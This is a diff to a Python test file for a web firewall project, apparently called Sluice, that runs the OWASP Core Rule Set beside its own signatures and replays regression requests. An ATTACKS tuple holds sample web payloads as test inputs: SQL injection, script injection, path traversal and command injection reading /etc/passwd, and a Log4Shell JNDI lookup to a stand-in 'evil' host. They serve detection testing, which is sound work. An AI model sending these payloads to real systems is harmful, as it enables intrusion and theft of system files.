@@ -2,8 +2,8 @@
 # Copyright the Sluice authors
 """The OWASP Core Rule Set of the Debian package, unmodified, beside our own signatures, in line.
 
-With SLUICE_CORPORA (a folder with crs-3.3.4/) and SLUICE_CRS_REPLAY (crs_replay.py) its regression
-requests go through the wire too.
+With SLUICE_SHARED (a folder with corpora/crs-3.3.4 and tools/crs_replay.py) its regression requests
+go through the wire too; they are not part of this project.
 """
 
 import json
@@ -17,6 +17,10 @@ from lab import SERVER4, Lab, check, figure, main, wait_for
 CRS = """
 SecRuleEngine On
 SecRequestBodyAccess On
+SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\\+|/)|text/)xml" \\
+  "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
+SecRule REQUEST_HEADERS:Content-Type "^application/json" \\
+  "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
 SecResponseBodyAccess On
 SecResponseBodyMimeType text/plain text/html application/json
 Include /etc/modsecurity/crs/crs-setup.conf
@@ -25,7 +29,7 @@ Include /usr/share/modsecurity-crs/rules/*.conf
 """
 POLICY = """
 mode: %s
-rules: {{ include: ["{source}/signatures/*.conf", "{home}/rules.conf"] }}
+rules: {{ include: ["{home}/rules.conf", "{source}/signatures/*.conf"] }}
 services:
   - name: web
     addresses: [{server4}, "{server6}"]
@@ -33,7 +37,7 @@ services:
 """
 ATTACKS = ("/?id=1%27%20or%20%271%27=%271%27--", "/?q=<script>alert(1)</script>",
            "/?f=../../../../etc/passwd", "/?c=;cat%20/etc/passwd", "/?x=${jndi:ldap://evil/a}")
-HONEST = ("/", "/index.html?page=2&sort=price", "/people?name=Smith&city=Berlin", "/1k.bin")
+HONEST = ("/", "/index.html?page=2&sort=price", "/index.html?name=Smith&city=Berlin", "/1k.bin")
 HEADERS = ("-H", "Accept: */*", "-H", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "-H",
            "Host: shop.example")
 
@@ -83,26 +87,26 @@ def a_push_under_load_loses_nothing():
 
 
 def regression_requests_through_the_wire():
-    corpora, tool = os.environ.get("SLUICE_CORPORA"), os.environ.get("SLUICE_CRS_REPLAY")
-    if not corpora or not tool:
-        print("  no corpora on this machine: the other tests stand without them", flush=True)
-        return
+    shared = pathlib.Path(os.environ["SLUICE_SHARED"])
+    tool, suite = shared / "tools/crs_replay.py", shared / "corpora/crs-3.3.4"
     setup = "SecAction \"id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=4\"\n"
-    policy = POLICY.replace('"{source}/signatures/*.conf", ', "") % "monitor"
+    policy = POLICY.replace(', "{source}/signatures/*.conf"', "") % "monitor"
     extra = "events: { request_headers: [x-crs-test] }\n"
     with Lab("crswire", rules=CRS.replace("SecRuleEngine On", "SecRuleEngine DetectionOnly") % setup,
              policy=policy, extra=extra, guarded=False) as lab:
         lab.push()
-        suite = next(pathlib.Path(corpora).glob("crs-3.3.4*/**/tests"), pathlib.Path(corpora) /
-                     "crs-3.3.4")
         done = lab.client("/usr/bin/python3", tool, "--tests", suite, "--host", SERVER4, "--port", 80,
                           "--log", lab.home / "log/eve.json", "--marker-header", "X-CRS-Test",
                           "--rules", "/usr/share/modsecurity-crs/rules", "--pl", 4, check=False,
                           timeout=900)
         print("\n".join(done.stdout.splitlines()[-15:]), flush=True)
-        check(done.returncode in (0, 1), done.stderr[-500:])
+        total = re.search(r"^ALL +(\d+) +(\d+)", done.stdout, re.MULTILINE)
+        check(total, f"no total: {done.stdout[-500:]}{done.stderr[-500:]}")
+        share = int(total.group(2)) / int(total.group(1))
+        figure("expectations met through the wire", f"{share:.1%}")
+        check(share >= 0.98, f"only {share:.1%}")
 
 
 if __name__ == "__main__":
     main(blocks_attacks_and_passes_honest_requests, a_push_under_load_loses_nothing,
-         regression_requests_through_the_wire)
+         *([regression_requests_through_the_wire] if "SLUICE_SHARED" in os.environ else []))
